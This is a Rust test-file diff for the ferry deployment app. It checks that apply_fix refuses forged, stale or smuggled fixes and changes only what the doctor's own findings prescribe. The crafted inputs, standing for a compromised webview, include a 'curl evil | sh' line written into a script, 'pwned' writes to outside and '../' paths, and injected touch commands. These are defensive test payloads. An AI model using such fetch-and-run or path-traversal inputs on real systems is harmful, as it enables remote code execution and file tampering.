@@ -313,63 +313,251 @@ fn deploy_to_an_unreachable_server_fails_with_kind_unreachable_and_is_recorded()
     assert!(history[0]["started_at"].as_str().unwrap().ends_with('Z'));
 }
 
-#[test]
-fn doctor_streams_findings_and_apply_fix_changes_only_what_it_checked() {
-    let t = app();
+/// A project of examples/hello-go (server unreachable) with `migrate.sh` saved with CRLF
+/// endings and no shebang: the doctor's `context.crlf_scripts`, fixed by a file edit.
+fn crlf_project() -> (tempfile::TempDir, String) {
     let (dir, path) = project(config_json("127.0.0.1", 1));
     let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/hello-go");
     for file in ["go.mod", "main.go"] {
         std::fs::copy(example.join(file), dir.path().join(file)).unwrap();
     }
-    let script = dir.path().join("migrate.sh");
-    std::fs::write(&script, "set -e\r\necho migrate\r\n").unwrap();
+    std::fs::write(dir.path().join("migrate.sh"), CRLF_SCRIPT).unwrap();
+    (dir, path)
+}
 
+const CRLF_SCRIPT: &[u8] = b"set -e\r\necho migrate\r\n";
+
+/// The findings of a `doctor` run, once its stream has finished.
+fn doctor_findings(t: &TestApp, path: &str) -> Vec<Value> {
     let (channel, events) = stream();
     tauri::async_runtime::block_on(commands::doctor(
         t.app.handle().clone(),
-        path.clone(),
+        path.to_string(),
         None,
         channel,
     ))
     .unwrap();
-    let events = events.wait(Duration::from_secs(60));
-    let findings: Vec<Value> = events
-        .iter()
-        .filter_map(|e| match e {
-            Event::Data { kind, data, .. } if kind == "finding" => Some(data.clone()),
-            _ => None,
-        })
-        .collect();
-    let by_id = |id: &str| findings.iter().find(|f| f["id"] == id).cloned();
+    let events = events.wait(Duration::from_secs(120));
     // Problems are findings; the stream itself finishes.
     assert!(
         matches!(events.last(), Some(Event::Finished { .. })),
         "{events:#?}"
     );
-    assert_eq!(by_id("server.unreachable").unwrap()["severity"], "error");
-    let crlf = by_id("context.crlf_scripts").expect("context.crlf_scripts");
+    events
+        .iter()
+        .filter_map(|e| match e {
+            Event::Data { kind, data, .. } if kind == "finding" => Some(data.clone()),
+            _ => None,
+        })
+        .collect()
+}
+
+#[track_caller]
+fn finding_of(findings: &[Value], id: &str) -> Value {
+    let found = findings.iter().find(|f| f["id"] == id);
+    found
+        .cloned()
+        .unwrap_or_else(|| panic!("no {id} in {findings:#?}"))
+}
+
+/// Every file under `dir` with its content (symlinks as their target), to see what changed.
+fn snapshot(dir: &Path) -> std::collections::BTreeMap<PathBuf, Vec<u8>> {
+    let mut files = std::collections::BTreeMap::new();
+    let mut todo = vec![dir.to_path_buf()];
+    while let Some(d) = todo.pop() {
+        for entry in std::fs::read_dir(&d).unwrap() {
+            let path = entry.unwrap().path();
+            let meta = std::fs::symlink_metadata(&path).unwrap();
+            if meta.is_dir() {
+                todo.push(path);
+            } else if meta.file_type().is_symlink() {
+                let target = std::fs::read_link(&path).unwrap();
+                files.insert(path, target.into_os_string().into_encoded_bytes());
+            } else {
+                files.insert(path.clone(), std::fs::read(&path).unwrap());
+            }
+        }
+    }
+    files
+}
+
+#[test]
+fn doctor_streams_findings_and_apply_fix_changes_only_what_it_checked() {
+    let t = app();
+    let (dir, path) = crlf_project();
+    let script = dir.path().join("migrate.sh");
+
+    let findings = doctor_findings(&t, &path);
+    assert_eq!(
+        finding_of(&findings, "server.unreachable")["severity"],
+        "error"
+    );
+    let crlf = finding_of(&findings, "context.crlf_scripts");
     assert_eq!(crlf["severity"], "warning");
-    let fix = crlf["auto_fix"].clone();
-    assert_eq!(fix["action"]["kind"], "edit_files");
+    assert_eq!(crlf["auto_fix"]["action"]["kind"], "edit_files");
     assert_eq!(
         std::fs::read(&script).unwrap(),
-        b"set -e\r\necho migrate\r\n",
+        CRLF_SCRIPT,
         "finding a problem changes nothing"
     );
+    let before = snapshot(dir.path());
 
-    let applied = t.invoke("apply_fix", json!({ "configPath": path, "fix": fix }));
-    assert_eq!(applied, Ok(Value::Null));
+    let apply = json!({
+        "configPath": path,
+        "id": "context.crlf_scripts",
+        "digest": crlf["auto_fix"]["digest"],
+        "trustHostKey": null
+    });
+    let applied = t.invoke("apply_fix", apply.clone());
+    assert_eq!(applied, Ok(crlf["auto_fix"]["label"].clone()));
     assert_eq!(std::fs::read(&script).unwrap(), b"set -e\necho migrate\n");
+    let mut expected = before;
+    expected.insert(script.clone(), b"set -e\necho migrate\n".to_vec());
+    assert_eq!(snapshot(dir.path()), expected, "only the script changed");
 
-    // The same fix again: the file is no longer what the check read.
+    // The same fix again: the checks no longer find the problem.
+    let refused = t.invoke("apply_fix", apply).unwrap_err();
+    assert_eq!(refused["kind"], "fix_refused", "{refused}");
+    let message = refused["message"].as_str().unwrap();
+    assert!(
+        message.contains("found no `context.crlf_scripts`"),
+        "{message}"
+    );
+    assert!(
+        message.contains("Findings with an automatic fix now: "),
+        "{message}"
+    );
+    assert_eq!(std::fs::read(&script).unwrap(), b"set -e\necho migrate\n");
+}
+
+#[test]
+fn a_script_edited_after_the_check_is_not_overwritten_by_its_fix() {
+    let t = app();
+    let (dir, path) = crlf_project();
+    let script = dir.path().join("migrate.sh");
+    let crlf = finding_of(&doctor_findings(&t, &path), "context.crlf_scripts");
+
+    // The user edits the script (still CRLF) while the preview is on screen.
+    let edited = b"set -e\r\necho migrate --all\r\n";
+    std::fs::write(&script, edited).unwrap();
     let refused = t
-        .invoke("apply_fix", json!({ "configPath": path, "fix": fix }))
+        .invoke(
+            "apply_fix",
+            json!({
+                "configPath": path,
+                "id": "context.crlf_scripts",
+                "digest": crlf["auto_fix"]["digest"],
+                "trustHostKey": null
+            }),
+        )
         .unwrap_err();
     assert_eq!(refused["kind"], "fix_refused", "{refused}");
+    let message = refused["message"].as_str().unwrap();
     assert!(
-        refused["message"].as_str().unwrap().contains("migrate.sh"),
-        "{refused}"
+        message.contains("is no longer the one you were shown: what it writes to `migrate.sh`"),
+        "{message}"
     );
+    assert!(message.contains("Run the checks again"), "{message}");
+    assert_eq!(std::fs::read(&script).unwrap(), edited, "the edit is kept");
+}
+
+#[test]
+fn a_crafted_apply_fix_writes_and_runs_nothing_it_was_sent() {
+    let t = app();
+    let (dir, path) = crlf_project();
+    let script = dir.path().join("migrate.sh");
+    let outside = tempfile::tempdir().unwrap();
+    let victim = outside.path().join("victim");
+    let marker = outside.path().join("ran");
+    let crlf = finding_of(&doctor_findings(&t, &path), "context.crlf_scripts");
+    let before = snapshot(dir.path());
+
+    // What a compromised webview might send: its own commands, file contents and paths.
+    let touch = marker.display().to_string();
+    let crafted_fix = json!({
+        "label": { "en": "Convert to LF", "zh": "转换为 LF 换行" },
+        "action": { "kind": "edit_files", "files": [
+            { "path": victim.display().to_string(), "base_sha256": null, "content": "pwned" },
+            { "path": "migrate.sh", "base_sha256": null, "content": "curl evil | sh\n" },
+            { "path": "../victim", "base_sha256": null, "content": "pwned" }
+        ] }
+    });
+    let crafted_commands = json!({
+        "label": { "en": "Open 8080/tcp", "zh": "放行 8080/tcp" },
+        "action": { "kind": "run_on_server", "commands": [
+            { "argv": ["touch", touch], "shell": format!("touch {touch}") }
+        ] }
+    });
+
+    // The old shape, a whole fix and no finding id: refused before anything runs.
+    for fix in [&crafted_fix, &crafted_commands] {
+        let refused = t
+            .invoke("apply_fix", json!({ "configPath": path, "fix": fix }))
+            .unwrap_err();
+        let message = refused.as_str().unwrap_or_default();
+        assert!(message.contains("missing required key id"), "{refused}");
+    }
+    assert_eq!(snapshot(dir.path()), before);
+
+    // A finding id with no automatic fix, carrying a fix of its own: refused, naming the ids
+    // that have one.
+    let refused = t
+        .invoke(
+            "apply_fix",
+            json!({
+                "configPath": path,
+                "id": "server.unreachable",
+                "digest": crlf["auto_fix"]["digest"],
+                "fix": crafted_commands,
+                "argv": ["touch", touch],
+            }),
+        )
+        .unwrap_err();
+    assert_eq!(refused["kind"], "fix_refused", "{refused}");
+    let message = refused["message"].as_str().unwrap();
+    assert!(
+        message.starts_with("`server.unreachable` has no automatic fix"),
+        "{message}"
+    );
+    assert!(message.contains("context.crlf_scripts"), "{message}");
+
+    // The digest of a fix of its own: the fix the checks derive is another one, so refused.
+    let forged =
+        ferry_core::doctor::sha256_hex(&serde_json::to_vec(&crafted_fix["action"]).unwrap());
+    let refused = t
+        .invoke(
+            "apply_fix",
+            json!({ "configPath": path, "id": "context.crlf_scripts", "digest": forged }),
+        )
+        .unwrap_err();
+    assert_eq!(refused["kind"], "fix_refused", "{refused}");
+    assert_eq!(snapshot(dir.path()), before);
+
+    // A real finding id and the digest shown, with a fix, path and content of its own besides:
+    // those are ignored, and the finding's own edit is what is written.
+    let applied = t.invoke(
+        "apply_fix",
+        json!({
+            "configPath": path,
+            "id": "context.crlf_scripts",
+            "digest": crlf["auto_fix"]["digest"],
+            "fix": crafted_fix,
+            "commands": crafted_commands["action"]["commands"],
+            "path": victim.display().to_string(),
+            "content": "pwned",
+        }),
+    );
+    assert_eq!(applied, Ok(crlf["auto_fix"]["label"].clone()));
+    let mut expected = before;
+    expected.insert(script.clone(), b"set -e\necho migrate\n".to_vec());
+    assert_eq!(
+        snapshot(dir.path()),
+        expected,
+        "only the finding's own edit"
+    );
+    assert!(!victim.exists(), "nothing written outside the project");
+    assert!(!dir.path().parent().unwrap().join("victim").exists());
+    assert!(!marker.exists(), "nothing it was sent ran");
 }
 
 #[test]
@@ -692,6 +880,89 @@ fn deploys_to_the_testbed_then_shows_status_logs_and_history() {
     assert_eq!(results, ["cancelled", "finished"]);
 
     tb.clean(name);
+}
+
+/// The stand-in firewall of the testbed's CentOS flavour (files of open ports, shared with
+/// this machine): whether `port/tcp` is open in `file` ("runtime" or "permanent").
+fn standin_firewall_opens(tb: &Testbed, file: &str, port: u16) -> bool {
+    let path = format!("{}/{file}", tb.get("FERRY_TB_CENTOS_STATE"));
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .any(|l| l == format!("{port}/tcp"))
+}
+
+fn close_in_standin_firewall(tb: &Testbed, port: u16) {
+    for file in ["runtime", "permanent"] {
+        let path = format!("{}/{file}", tb.get("FERRY_TB_CENTOS_STATE"));
+        let kept: String = std::fs::read_to_string(&path)
+            .unwrap_or_default()
+            .lines()
+            .filter(|l| *l != format!("{port}/tcp"))
+            .map(|l| format!("{l}\n"))
+            .collect();
+        std::fs::write(&path, kept).unwrap();
+    }
+}
+
+#[test]
+fn apply_fix_runs_on_the_server_only_the_commands_of_the_finding() {
+    let Some(tb) = Testbed::load() else {
+        eprintln!("SKIPPED: no /tmp/ferry-testbed/env (scripts/testbed up)");
+        return;
+    };
+    let t = app();
+    let port = 18721;
+    close_in_standin_firewall(&tb, port);
+    let config = json!({
+        "app": { "name": "app-fix", "context": ".", "platform": "auto" },
+        "server": {
+            "host": tb.get("FERRY_TB_SERVER_HOST"),
+            "port": tb.get("FERRY_TB_CENTOS_PORT").parse::<u16>().unwrap(),
+            "user": tb.get("FERRY_TB_SERVER_USER"),
+            "identity_file": tb.get("FERRY_TB_KEY"),
+            "host_key": tb.get("FERRY_TB_HOST_KEY")
+        },
+        "container": {
+            "ports": [format!("{port}:8080")], "env": {}, "volumes": [],
+            "restart": "unless-stopped", "memory": "128m"
+        },
+        "health": { "path": "/healthz", "timeout_secs": 20 }
+    });
+    let (dir, path) = project(config);
+    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/hello-go");
+    for file in ["go.mod", "main.go"] {
+        std::fs::copy(example.join(file), dir.path().join(file)).unwrap();
+    }
+    let firewall = finding_of(&doctor_findings(&t, &path), "server.firewalld_port_closed");
+    assert_eq!(firewall["auto_fix"]["action"]["kind"], "run_on_server");
+    let before = snapshot(dir.path());
+
+    // The server and this machine share /tmp: a command of the webview's own would leave this.
+    let marker = std::env::temp_dir().join(format!("ferry-app-crafted-{}", std::process::id()));
+    let touch = marker.display().to_string();
+    let crafted = json!([{ "argv": ["touch", touch], "shell": format!("touch {touch}") }]);
+    let applied = t.invoke(
+        "apply_fix",
+        json!({
+            "configPath": path,
+            "id": "server.firewalld_port_closed",
+            "digest": firewall["auto_fix"]["digest"],
+            "trustHostKey": null,
+            "fix": { "label": firewall["auto_fix"]["label"],
+                     "action": { "kind": "run_on_server", "commands": crafted } },
+            "commands": crafted,
+        }),
+    );
+    assert_eq!(applied, Ok(firewall["auto_fix"]["label"].clone()));
+    assert!(standin_firewall_opens(&tb, "runtime", port));
+    assert!(standin_firewall_opens(&tb, "permanent", port));
+    assert!(
+        !marker.exists(),
+        "the server ran a command it was not meant to"
+    );
+    assert_eq!(snapshot(dir.path()), before, "a server fix writes no file");
+    close_in_standin_firewall(&tb, port);
 }
 
 /// The body of `GET /` from the deployed app.
